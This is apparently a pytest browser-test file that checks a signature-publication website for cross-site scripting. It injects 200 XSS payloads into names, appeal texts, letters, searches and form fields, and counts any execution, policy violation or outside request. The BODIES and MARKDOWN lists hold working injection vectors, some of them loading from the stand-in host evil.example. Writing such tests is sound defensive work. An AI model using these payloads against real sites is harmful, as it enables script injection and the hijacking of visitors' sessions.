"""Whatever strangers and organizers write, it is text on every page: nothing runs, and the policy has nothing to stop.

200 payloads are public names, relations and prisoners of an accepted publication, comments of its minisigs, words of an
appeal's folder, of a letter and of searches. Each page is opened in each language; what is counted are executions,
violations of the policy, elements and attributes that no template has, and requests to other places.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path
from urllib.request import urlopen

import pytest

from crypto.minisign import MinisignSecretKey
from crypto.publication import Counts, PublishedSignature
from service.settings import Settings
from service.site.rendering import TEMPLATES
from tests.browser.support.engines import Engine, driven
from tests.browser.support.recording_door import door_to
from tests.browser.support.results import hand_in
from tests.support.publications import publication
from tests.support.service_process import Served, free_port, serving
from tests.support.site_map import SHIPPED_LANGUAGES

BEFORE = ("", '">', "'>", "</script>", "</title>", "</textarea>", "</bdi></li></ul>", "--></style>", "]]>", "<!--><p ")
BODIES = (
    "<script>xss()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=xss()>",
    "<svg/onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    "<a href=javascript:xss()>x</a>",
    "<form action=//evil.example><button id=submit>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=javascript:xss()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "' onmouseover=xss() autofocus onfocus=xss() x='",
    "{{ 7 * 7 }}${xss()}{% print(1) %}#{xss()}",
    "&lt;script&gt;xss()&lt;/script&gt;&#60;img src=x onerror=xss()&#62;",
    r"\u003cscript\u003exss()\x3c/script\x3e+ADw-script+AD4-xss()",
)
PAYLOADS = [before + body for before, body in product(BEFORE, BODIES)]
MARKDOWN = "\n\n".join(
    [
        "[x](javascript:xss())",
        "![x](javascript:xss()) ![x](//evil.example/x.png)",
        "<javascript:xss()> <https://evil.example/>",
        "[x]: javascript:xss()\n\n[x][x]",
        "`<script>xss()</script>`",
        "```html onload=xss()\n<script>xss()</script>\n```",
        "| <b onclick=xss()> |\n|---|\n| <script>xss()</script> |",
        *PAYLOADS,
    ]
)
WATCH = r"""
window.counted = { executions: 0, violations: [] };
window.xss = () => { window.counted.executions += 1 };
for (const name of ['alert', 'confirm', 'prompt']) window[name] = window.xss;
// Firefox asks for an icon beside a file that is no page; a policy forbids that, too.
addEventListener('securitypolicyviolation', (event) =>
  /favicon\.ico$/.test(event.blockedURI) || window.counted.violations.push(
    `${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
# What no template has: elements that load or run, handlers, styles, addresses that run.
STRANGE = r"""(() => {
  const loads = /^(iframe|object|embed|img|svg|math|base|video|audio|animate)$/i;
  const runs = ({ name, value }) => /^on|^style$|^srcdoc$/.test(name) || /^\s*javascript:/i.test(value);
  return [...document.querySelectorAll('*:not(svg.qr)')]
    .filter((one) => loads.test(one.localName) || one.httpEquiv === 'refresh' || [...one.attributes].some(runs))
    .map((one) => one.outerHTML.slice(0, 80));
})()"""
# Tells a page that comes from the one that goes.
OLD, NEW = "document.documentElement.className = 'old'", "html:not(.old)"
ENGINE_NAMES = ("chromium", "firefox-safer")
# So many names are on the second page of the list.
FURTHER = 20
PAGES = [*TEMPLATES, "result-2", "nowhere"]
FILES = ["publication.json", "publication.json.anna.minisig", "result.json", "appeal.json"]


def quoted(text: str) -> str:
    """As TOML writes a text."""
    return json.dumps(text, ensure_ascii=False)


def poison(folder: Path) -> None:
    """Payloads in every text of an appeal's folder that people write; what stays is what a format restricts."""
    path = folder / "appeal.toml"
    toml = path.read_text("utf-8")
    payloads = iter(PAYLOADS * 2)
    lines = []
    for line in toml.splitlines():
        before, equals, value = line.partition(" = ")
        if equals and value.startswith("{"):
            value = "{ " + ", ".join(f"{language} = {quoted(next(payloads))}" for language in SHIPPED_LANGUAGES) + " }"
        elif equals and (before in SHIPPED_LANGUAGES or before == "text"):
            value = quoted(next(payloads))
        lines.append(before + equals + value)
    warning = ", ".join(f"{language} = {quoted(next(payloads))}" for language in SHIPPED_LANGUAGES)
    path.write_text(f"warning = {{ {warning} }}\n" + "\n".join(lines) + "\n", "utf-8")
    for language in SHIPPED_LANGUAGES:
        (folder / f"letter.{language}.md").write_text(f"# {PAYLOADS[2]}\n\n{MARKDOWN}\n", "utf-8")


def hostile_result() -> bytes:
    """A publication whose public names, relations and prisoners are the payloads; more than one page shows."""
    names = [*PAYLOADS, *PAYLOADS[:FURTHER]]
    signatures = tuple(
        PublishedSignature(name, PAYLOADS[-at % len(PAYLOADS)][:80].strip(), PAYLOADS[(at + 7) % len(PAYLOADS)])
        for at, name in enumerate(names)
    )
    public = len(signatures)
    return publication(
        (),
        counts=Counts(public + 3, 0, 0, 0, 0, public, 3),
        signatures=signatures,
        receipts=tuple(f"{at:016x}" for at in range(public + 3)),
    )


@pytest.fixture(scope="module")
def site(settle: Callable[[str], Settings], minisign_keys: tuple[MinisignSecretKey, ...]) -> Iterator[Served]:
    """A service whose organizers are out to hurt its readers."""
    settings, port = settle("payloads"), free_port()
    poison(settings.appeal)
    toml = settings.appeal / "appeal.toml"
    toml.write_text(f'addresses = ["http://127.0.0.1:{port}"]\n' + toml.read_text("utf-8"), "utf-8")
    with serving(settings, settings.data.with_name("log"), port) as served:
        hand_in(served, hostile_result(), *minisign_keys, comment=PAYLOADS[1])
        yield served


@pytest.fixture(scope="module", params=ENGINE_NAMES)
def started(request: pytest.FixtureRequest) -> Iterator[Engine]:
    """One browser for all tests of this file."""
    with driven(request.param) as engine:
        yield engine


@pytest.fixture
def engine(started: Engine) -> Engine:
    """The browser with a fresh profile, in which what would harm is counted."""
    started.do("fresh")
    started.beforehand(WATCH)
    return started


def harm(engine: Engine) -> tuple[int, list[str], list[str]]:
    """Executions, violations of the policy, and what stands in the page that no template has."""
    counted = engine.evaluate("window.counted")
    return counted["executions"], counted["violations"], engine.evaluate(STRANGE)


NONE: tuple[int, list[str], list[str]] = (0, [], [])


@pytest.mark.parametrize("languages", [SHIPPED_LANGUAGES[:1], pytest.param(SHIPPED_LANGUAGES, marks=pytest.mark.long)])
def test_names_and_words_are_text_on_every_page(engine: Engine, site: Served, languages: tuple[str, ...]) -> None:
    """Every page of the site, in each language; the result is what the organizers signed, letter by letter."""
    for language, page in product(languages, PAGES):
        engine.open(f"{site.url}/{language}/{page}")
        if page in ("", "result", "result-2"):
            engine.visible("[data-verdict=good]:not([hidden]), [data-verdict=offered]:not([hidden])")
        assert harm(engine) == NONE, f"{language}/{page}"
    assert {each["url"].startswith(site.url) for each in engine.asked} == {True}


def test_files_for_programs_are_no_pages(engine: Engine, site: Served) -> None:
    """Opened in a browser, they show text."""
    for file in FILES:
        engine.open(f"{site.url}/{file}")
        assert harm(engine)[:2] == NONE[:2], file
    assert {each["url"].startswith(site.url) for each in engine.asked} == {True}


@pytest.mark.parametrize("payloads", [PAYLOADS[:60:20], pytest.param(PAYLOADS, id="all", marks=pytest.mark.long)])
def test_words_that_are_searched_for_are_text(engine: Engine, site: Served, payloads: list[str]) -> None:
    """They stand in the field again, beside the names that fit."""
    for payload in payloads:
        engine.open(f"{site.url}/en/result")
        engine.evaluate(f"document.getElementById('q').value = {json.dumps(payload)}")
        engine.evaluate(f"{OLD}; document.getElementById('q').focus()")
        engine.do("press", key="Enter")
        engine.visible(f"{NEW} #q")
        assert engine.value("#q") == payload
        assert harm(engine) == NONE, payload


@pytest.mark.parametrize("payloads", [PAYLOADS[:60:20], pytest.param(PAYLOADS, id="all", marks=pytest.mark.long)])
def test_what_is_handed_in_or_typed_as_a_token_is_no_markup(engine: Engine, site: Served, payloads: list[str]) -> None:
    """On the pages whose forms need no script, for a text that is no envelope and a token that is none."""
    submit = "HTMLFormElement.prototype.submit.call(document.getElementById('form'))"
    for payload in payloads:
        engine.open(f"{site.url}/en/hand-in")
        engine.evaluate(f"document.getElementById('envelope').value = {json.dumps(payload)}; {OLD}; {submit}")
        engine.visible(f"{NEW} #outcome")
        assert harm(engine) == NONE, payload
        engine.open(f"{site.url}/en/desk")
        engine.type("#take-token", payload)
        engine.do("press", key="Enter")
        engine.visible("#outcome")
        assert harm(engine) == NONE, payload


def test_the_signing_file_shows_text(engine: Engine, site: Served, tmp_path: Path) -> None:
    """Opened from a disk, where its own policy is the only one."""
    path = tmp_path / "sign.html"
    for language in SHIPPED_LANGUAGES:
        with urlopen(f"{site.url}/{language}/sign.html") as answer:
            path.write_bytes(answer.read())
        engine.open(path.as_uri())
        engine.visible("#submit")
        assert harm(engine) == NONE, language


@pytest.mark.control
def test_a_template_that_does_not_escape_is_found(engine: Engine, site: Served) -> None:
    """The control: the same pages unescaped, with the policy and without it."""
    with door_to(site.url) as door:
        door.unescapes = True
        engine.open(f"{door.url}/en/result")
        executions, violations, strange = harm(engine)
        assert (executions, bool(violations), bool(strange)) == (0, True, True)
        door.drops_policy = True
        engine.open(f"{door.url}/en/result?again")
        assert harm(engine)[0] > 0
